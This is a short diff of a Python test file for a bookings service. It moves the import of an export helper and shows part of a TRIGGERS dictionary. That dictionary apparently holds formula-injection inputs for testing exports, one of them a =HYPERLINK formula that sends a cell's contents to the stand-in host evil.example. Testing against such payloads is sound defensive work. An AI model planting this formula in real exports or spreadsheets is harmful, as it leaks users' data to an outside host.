@@ -7,8 +7,8 @@ from decimal import Decimal
 import pytest
 
 from bookings.services import booking_upsert
-from tests.bookings.test_admin import export
 from tests.factories import booking_data
+from tests.helpers import export
 
 TRIGGERS = {
     "guest_name": '=HYPERLINK("http://evil.example/?x="&A1,"Jordan")',
